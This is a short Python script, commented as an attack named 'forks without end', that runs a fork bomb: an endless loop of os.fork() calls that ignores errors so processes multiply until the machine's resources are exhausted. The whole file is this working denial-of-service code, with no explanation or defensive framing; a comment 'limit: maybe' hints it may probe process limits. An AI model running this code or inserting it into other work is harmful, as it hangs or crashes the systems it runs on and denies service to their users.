# attack: forks without end
# limit: maybe
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
